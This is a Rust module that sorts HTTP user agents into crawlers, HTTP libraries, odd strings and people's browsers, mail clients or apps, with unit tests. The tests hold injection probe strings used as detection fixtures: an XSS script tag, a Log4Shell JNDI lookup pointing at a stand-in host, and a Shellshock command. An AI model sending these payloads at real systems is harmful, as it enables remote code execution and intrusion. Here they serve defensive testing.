//! What a user agent alone says, whatever the rules: a self-declared crawler, an
//! HTTP library, a string no client sends, or a person's browser, mail client or app.
//!
//! Input: the (cut) agent and woothee's reading of it. Output: [`AgentFacts`],
//! computed once per distinct agent and cached with it. The knowledge: woothee's
//! crawler category; the MIT-licensed crawler-user-agents patterns vendored in
//! `config/bots/` (compiled into the binary, one `RegexSet`), less the few listed in
//! `config/bots/excluded-patterns.txt` because they also match people's browsers; the
//! marks by which machines declare themselves in a borrowed browser agent (a URL or
//! contact address, `compatible; ...bot`, a `...bot/1.0` product), which no browser or
//! mail client carries; a short list of HTTP libraries that the crawler list lacks;
//! mail clients by the tokens their agents carry (the client names in
//! matomo-org/device-detector's `regexes/client/pim.yml` and Microsoft's documented
//! Outlook agents); browsers by woothee's name, or by an engine token (AppleWebKit,
//! Gecko, Trident, Presto) on an operating system woothee recognised, which is how
//! Apple Mail and Thunderbird read; apps by the system HTTP stack that names the
//! device (Android's Dalvik, Apple's CFNetwork). Invariant: nothing here depends on
//! the rules file, so a rules reload leaves these facts valid.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::{RegexSet, RegexSetBuilder};
use serde::Deserialize;

use super::ua::Client;

const CRAWLER_USER_AGENTS: &str = include_str!("../../config/bots/crawler-user-agents.json");
/// Patterns of that list left out because they match real browsers (with the reason).
const EXCLUDED_PATTERNS: &str = include_str!("../../config/bots/excluded-patterns.txt");

/// How a machine declares itself inside an agent that otherwise reads like a browser's
/// (`Mozilla/5.0 (...) Chrome/120 Safari/537.36 (compatible; Foo-Crawler; +https://...)`):
/// a URL or mail address to contact its owner, a crawler word, a `...bot/` product, a
/// `compatible;` comment naming a machine, a monitoring or testing tool. Checked
/// against the 35,542 browser agents of matomo-org/device-detector's fixtures: 3 match
/// (embedded browsers naming their home page), against 1,251 of its 1,344 bot agents.
const BOT_MARKERS: &[&str] = &[
    r"(?i)https?://|\bwww\.[a-z0-9-]+\.[a-z]{2,}",
    r"(?i)[a-z0-9._-]+@[a-z0-9-]+\.[a-z]{2,}|\bmailto:",
    r"(?i)crawl|[a-z]spider|spider[/-]",
    r"(?i)[a-z0-9](bot|crawler|spider)/",
    r"(?i)compatible;[^;)]*(bot|crawler|spider|monitor|checker|scan|fetch|validator|preview|capture|verifier)",
    r"(?i)\b(monitor(ing)?|checker|scanner|validator|headless|phantomjs|lighthouse|pagespeed|uptime|pingdom)\b",
    r"\bGoogle-[A-Z]|[A-Za-z]-Google\b",
];

/// HTTP client libraries and tools the crawler list does not name. Anchored where the
/// library's default agent starts with its name.
const HTTP_LIBRARIES: &[&str] = &[
    r"^Java/",
    r"^Ruby\b",
    r"\bFaraday v",
    r"^GuzzleHttp/",
    r"^PostmanRuntime/",
    r"^Dart/",
    r"^undici\b",
    r"^node\b",
    r"^Deno/",
    r"^Bun/",
    r"^reqwest/",
    r"^hyper/",
    r"\bWinHttp",
    r"^RestSharp/",
    r"\burllib3/",
    r"^fasthttp",
    r"Commons-HttpClient/",
    r"^lua-resty-http/",
    r"PowerShell/",
    r"^libcurl",
    r"^AHC/",
    r"^Vert\.x",
    r"^ReactorNetty/",
    r"^Apache-CXF/",
    r"^Typhoeus\b",
    r"^http\.rb/",
    r"^Symfony HttpClient",
    r"^Zend_Http_Client",
    r"^Mojolicious",
    r"^LWP::Simple",
];

/// Tokens of mail clients' agents, matched ASCII case-insensitively. Outlook for
/// Windows renders with Word and sends `Microsoft Office/16.0 (...; Microsoft Outlook
/// 16.0.x; ...)` or `Mozilla/4.0 (compatible; ms-office; MSOffice 16)`; woothee calls
/// neither a browser.
const MAIL_CLIENTS: &[&str] = &[
    "Microsoft Outlook",
    "MacOutlook",
    // Outlook for Mac loads images with the system's HTTP stack:
    // `Outlook/16.16.18071205 CFNetwork/902.1 Darwin/17.7.0 (x86_64)`.
    "Outlook/",
    "Outlook-iOS/",
    "Outlook-Android/",
    "Outlook-Express",
    "MSOffice",
    "ms-office",
    "WindowsMail/",
    "Thunderbird/",
    "Icedove/",
    "Spicebird/",
    "SeaMonkey/",
    "Airmail",
    "Lotus-Notes",
    "Postbox",
    "The Bat!",
    "Mailspring/",
    "Mailbird/",
    "eM Client/",
    "eMClient/",
    "NaverMailApp/",
    "Foxmail/",
    "MailMaster",
    "BlueMail/",
    "Barca/",
    "BarcaPro/",
    "MailBar/",
    "Android-Gmail",
    "Yahoo%20Mail",
    "jp.co.yahoo.ymail",
];

/// Apps whose own agent (not a WebView's) opens links for the person inside the app,
/// as matomo-org/device-detector's `regexes/client/mobile_apps.yml` names them: e.g.
/// `Instagram 361.0.0.46.88 Android (33/13; 440dpi; ...)`. Counted only on a device
/// woothee recognises; their link-preview crawlers (facebookexternalhit, LinkedInBot,
/// ...) declare themselves and are caught earlier.
const IN_APP: &[&str] = &[
    "Instagram ",
    "FBAN/",
    "FBAV/",
    "FB_IAB/",
    "LinkedInApp",
    "MicroMessenger/",
    "KAKAOTALK",
    " Line/",
    "Snapchat/",
    "Pinterest for",
    "BytedanceWebview",
    "musical_ly",
];

/// The system HTTP stacks of phone and desktop apps, with the device in the agent:
/// Android's `Dalvik/2.1.0 (Linux; U; Android 13; SM-S908B Build/...)`, Apple's
/// `App/1.0 CFNetwork/1410.0.3 Darwin/22.6.0` and Safari's own networking process
/// `com.apple.WebKit.Networking/...`. Mail apps fetch images this way (Outlook for
/// Mac does, above); scripts do not dress up as a phone's system library.
const APP_STACKS: &[&str] = &[
    r"^Dalvik/[0-9.]+ \(Linux; U; Android [0-9]",
    r"\bCFNetwork/[0-9.]+ Darwin/[0-9]",
    r"^com\.apple\.WebKit\.Networking/",
];

/// Rendering engines whose token, on a recognised operating system, marks a browser
/// or a mail client's web view.
const ENGINES: &[&str] = &[
    "AppleWebKit/",
    "Gecko/",
    "like Gecko",
    "Trident/",
    "Presto/",
];

/// Which list named the agent a crawler.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SelfDeclared {
    /// woothee's crawler category.
    Woothee,
    /// A crawler-user-agents pattern.
    CrawlerList,
    /// One of [`BOT_MARKERS`].
    Marker,
}

/// An agent no person's client sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Oddity {
    /// Characters outside printable ASCII (RFC 9110 field values are ASCII; invalid
    /// UTF-8 arrives here as U+FFFD).
    NonAscii,
    /// Markup or template syntax: probes for injection (`<script>`, `${jndi:`).
    Markup,
    /// Not shaped like product tokens: no leading letter or digit, or under three
    /// letters in all.
    Garbage,
    HttpLibrary,
}

/// A person's client, positively recognised.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PersonClient {
    Browser,
    MailClient,
    /// A phone or desktop app's own HTTP stack ([`APP_STACKS`]).
    App,
}

/// Everything [`Agents::inspect`] finds in one agent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct AgentFacts {
    /// The agent is empty or only blanks.
    pub blank: bool,
    pub self_declared: Option<SelfDeclared>,
    pub oddity: Option<Oddity>,
    pub person: Option<PersonClient>,
}

#[derive(Deserialize)]
struct CrawlerEntry {
    pattern: String,
}

pub struct Agents {
    crawlers: RegexSet,
    markers: RegexSet,
    app_stacks: RegexSet,
    libraries: RegexSet,
    mail_clients: AhoCorasick,
    in_app: AhoCorasick,
    engines: AhoCorasick,
}

/// The patterns of [`EXCLUDED_PATTERNS`] with their reasons.
fn excluded() -> impl Iterator<Item = (&'static str, &'static str)> {
    EXCLUDED_PATTERNS
        .lines()
        .filter(|line| !line.starts_with('#') && !line.trim().is_empty())
        .map(|line| line.split_once('\t').unwrap_or((line, "")))
}

impl Agents {
    pub fn new() -> Agents {
        let entries: Vec<CrawlerEntry> = serde_json::from_str(CRAWLER_USER_AGENTS)
            .expect("the vendored crawler list is checked by a unit test");
        let left_out: Vec<&str> = excluded().map(|(pattern, _)| pattern).collect();
        let crawlers = RegexSetBuilder::new(
            entries
                .iter()
                .map(|e| e.pattern.as_str())
                .filter(|pattern| !left_out.contains(pattern)),
        )
        .size_limit(64 << 20)
        .build()
        .expect("every vendored crawler pattern compiles (unit test)");
        let words = |list: &[&str]| {
            AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::LeftmostFirst)
                .build(list)
                .expect("fixed word lists build")
        };
        Agents {
            crawlers,
            markers: RegexSet::new(BOT_MARKERS).expect("fixed marker patterns compile"),
            app_stacks: RegexSet::new(APP_STACKS).expect("fixed app patterns compile"),
            libraries: RegexSet::new(HTTP_LIBRARIES).expect("fixed library patterns compile"),
            mail_clients: words(MAIL_CLIENTS),
            in_app: words(IN_APP),
            engines: words(ENGINES),
        }
    }

    /// Number of vendored crawler patterns.
    pub fn crawler_patterns(&self) -> usize {
        self.crawlers.len()
    }

    /// The facts of one agent (already cut to `user_agent.max_bytes`).
    pub fn inspect(&self, ua: &str, client: &Client) -> AgentFacts {
        let trimmed = ua.trim();
        if trimmed.is_empty() {
            return AgentFacts {
                blank: true,
                ..AgentFacts::default()
            };
        }
        let self_declared = if client.is_crawler() {
            Some(SelfDeclared::Woothee)
        } else if self.crawlers.is_match(ua) {
            Some(SelfDeclared::CrawlerList)
        } else if self.markers.is_match(ua) {
            Some(SelfDeclared::Marker)
        } else {
            None
        };
        let oddity = if !trimmed.bytes().all(|b| (0x20..0x7f).contains(&b)) {
            Some(Oddity::NonAscii)
        } else if ["<", ">", "${", "{{", "%{"]
            .iter()
            .any(|m| trimmed.contains(m))
        {
            Some(Oddity::Markup)
        } else if !trimmed.starts_with(|c: char| c.is_ascii_alphanumeric())
            || trimmed.bytes().filter(u8::is_ascii_alphabetic).count() < 3
        {
            Some(Oddity::Garbage)
        } else if self.libraries.is_match(trimmed) || &*client.category == "misc" {
            Some(Oddity::HttpLibrary)
        } else {
            None
        };
        let device = matches!(
            &*client.category,
            "pc" | "smartphone" | "mobilephone" | "appliance"
        );
        let person = if self.mail_clients.is_match(trimmed) {
            Some(PersonClient::MailClient)
        } else if device
            && (!client.browser.is_empty()
                || (!client.os.is_empty() && self.engines.is_match(trimmed))
                || self.in_app.is_match(trimmed))
        {
            Some(PersonClient::Browser)
        } else if self.app_stacks.is_match(trimmed) {
            Some(PersonClient::App)
        } else {
            None
        };
        AgentFacts {
            blank: false,
            self_declared,
            oddity,
            person,
        }
    }
}

impl Default for Agents {
    fn default() -> Agents {
        Agents::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::enrich::ua::parse;

    fn facts(agents: &Agents, ua: &str) -> AgentFacts {
        agents.inspect(ua, &parse(ua))
    }

    #[test]
    fn the_vendored_list_parses_and_matches_its_own_instances() {
        #[derive(Deserialize)]
        struct Entry {
            pattern: String,
            #[serde(default)]
            instances: Vec<String>,
        }
        let entries: Vec<Entry> = serde_json::from_str(CRAWLER_USER_AGENTS).unwrap();
        assert!(entries.len() > 500, "{}", entries.len());
        let agents = Agents::new();
        let excluded: Vec<(&str, &str)> = excluded().collect();
        assert_eq!(agents.crawler_patterns(), entries.len() - excluded.len());
        for (pattern, reason) in &excluded {
            assert!(
                entries.iter().any(|e| e.pattern == *pattern),
                "excluded pattern {pattern:?} is no longer in the list"
            );
            assert!(!reason.is_empty(), "{pattern}: say why it is left out");
        }
        let mut checked = 0;
        for entry in &entries {
            let one = regex::Regex::new(&entry.pattern).unwrap();
            let left_out = excluded.iter().find(|(p, _)| *p == entry.pattern);
            for instance in &entry.instances {
                // Instances are what the list's own tests hold to each pattern.
                assert!(one.is_match(instance), "{} vs {instance}", entry.pattern);
                let facts = agents.inspect(instance, &parse(instance));
                match left_out {
                    // A left-out pattern's crawler must still never pass for a person.
                    Some((_, reason)) if reason.ends_with("a person's browser") => {}
                    Some(_) => assert!(
                        facts.self_declared.is_some() || facts.person.is_none(),
                        "{instance}"
                    ),
                    None => assert!(agents.crawlers.is_match(instance)),
                }
                checked += 1;
            }
        }
        assert!(checked > 1000, "{checked}");
    }

    /// Agents from matomo-org/device-detector's fixtures (commit 3856a2869) that
    /// over-broad crawler patterns used to catch (config/bots/excluded-patterns.txt).
    #[test]
    fn browsers_that_broad_crawler_patterns_matched_are_people() {
        let agents = Agents::new();
        for ua in [
            "Mozilla/5.0 (Linux; Android 15; RMX6688 Build/AP3A.240617.008) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.58 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 15; CPH2725 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/138.0.7204.179 Mobile Safari/537.36",
            "Mozilla/5.0 (Linux; Android 6.0; ivvi V1M Build/MRA58K; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/68.0.3440.106 Mobile Safari/537.36 AWP/2.0 SogouMSE,SogouMobileBrowser/5.24.6",
            "Mozilla/5.0 (Linux; Android 4.4.2; ViewSonic V500 Build/KVT49L) AppleWebKit/535.19 (KHTML, like Gecko) Chrome/18.0.1025.166 Mobile Safari/535.19",
            "Mozilla/5.0 (Linux; U; Android 4.3; en-us; HTC_Butterfly Build/JSS15J) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
            "Mozilla/5.0 (Linux; Android 8.1.0; Fever_Plus_J) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/95.0.4638.50 Safari/537.36",
            "Mozilla/5.0 (Linux; Android 8.0.0; Expanse) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.99 Mobile Safari/537.36",
            "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML like Gecko) coccocbrowser/47.0 Chrome/41.0.2272.119coccoc Safari/537.36",
        ] {
            let got = facts(&agents, ua);
            assert_eq!((got.self_declared, got.person.is_some()), (None, true), "{ua}");
        }
    }

    #[test]
    fn people_are_recognised_by_browser_or_mail_client() {
        let agents = Agents::new();
        for (ua, want) in [
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0", PersonClient::Browser),
            ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)", PersonClient::Browser),
            ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", PersonClient::Browser),
            ("Mozilla/5.0 (Linux; Android 13; SM-S908B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36", PersonClient::Browser),
            ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko", PersonClient::Browser),
            ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)", PersonClient::MailClient),
            ("Mozilla/4.0 (compatible; ms-office; MSOffice 16)", PersonClient::MailClient),
            ("Outlook-iOS/709.2189947.prod.iphone (4.71.0)", PersonClient::MailClient),
            ("Outlook/16.16.18071205 CFNetwork/902.1 Darwin/17.7.0 (x86_64)", PersonClient::MailClient),
            ("Instagram 361.0.0.46.88 Android (33/13; 440dpi; 1080x2263; Xiaomi/Redmi; M2101K6G; sweet; qcom; tr_TR; 674675063)", PersonClient::Browser),
            ("Dalvik/2.1.0 (Linux; U; Android 11; SM-A325N Build/RP1A.200720.012)", PersonClient::App),
            ("Spark/3.2 CFNetwork/1410.0.3 Darwin/22.6.0", PersonClient::App),
            ("BarcaPro/1.4 L.1001", PersonClient::MailClient),
            ("MailBar/1.3.2 (Mac OS X Version 10.11.1 (Build 15B42))", PersonClient::MailClient),
            ("Mozilla/5.0 (Linux; Android 8.1.0; CUBOT J3 PRO) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.120 Mobile Safari/537.36", PersonClient::Browser),
            ("Mozilla/5.0 (Linux; Android 6.0; IDbot553 Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0.3071.125 Mobile Safari/537.36", PersonClient::Browser),
            ("Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", PersonClient::Browser),
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Thunderbird/115.10.1", PersonClient::MailClient),
        ] {
            let got = facts(&agents, ua);
            assert_eq!(got.person, Some(want), "{ua}");
            assert_eq!((got.self_declared, got.oddity), (None, None), "{ua}");
        }
    }

    #[test]
    fn machines_are_not_people() {
        let agents = Agents::new();
        for (ua, declared, oddity) in [
            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Some(SelfDeclared::Woothee), None),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36", Some(SelfDeclared::CrawlerList), None),
            ("python-requests/2.31.0", Some(SelfDeclared::CrawlerList), None),
            ("curl/8.5.0", Some(SelfDeclared::CrawlerList), Some(Oddity::HttpLibrary)),
            ("Java/1.8.0_151", None, Some(Oddity::HttpLibrary)),
            ("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1", None, Some(Oddity::HttpLibrary)),
            ("<script>alert(1)</script>", None, Some(Oddity::Markup)),
            ("${jndi:ldap://x.example/a}", None, Some(Oddity::Markup)),
            ("() { :; }; /bin/bash -c id", None, Some(Oddity::Garbage)),
            ("-", None, Some(Oddity::Garbage)),
            ("x1", None, Some(Oddity::Garbage)),
            ("Mozilla/5.0 \u{2603}", None, Some(Oddity::NonAscii)),
            ("Mozilla/5.0 \u{fffd}", None, Some(Oddity::NonAscii)),
            ("Mozilla/5.0\ttab", None, Some(Oddity::NonAscii)),
            ("Mozilla/5.0 (Windows NT 10.0)", None, None),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 cl0q-crawler/1.0 (+https://cl0q.com/bot)", Some(SelfDeclared::Marker), None),
            ("Mozilla/5.0 (compatible; um-ANS/1.0; mailto: techinfo@ubermetrics-technologies.com; Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1", Some(SelfDeclared::Marker), None),
            ("Mozilla/5.0 (Linux; Android 8.0; Pixel 2 Build/OPD3.170816.012; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.131 Mobile Safari/537.36", Some(SelfDeclared::Marker), None),
            ("Mozilla/5.0", None, None),
        ] {
            let got = facts(&agents, ua);
            assert_eq!((got.self_declared, got.oddity), (declared, oddity), "{ua}");
            // A self-declared crawler may look like a browser too; it never gets that far.
            assert!(declared.is_some() || got.person.is_none(), "{ua}");
        }
        assert!(facts(&agents, "  ").blank);
    }
}
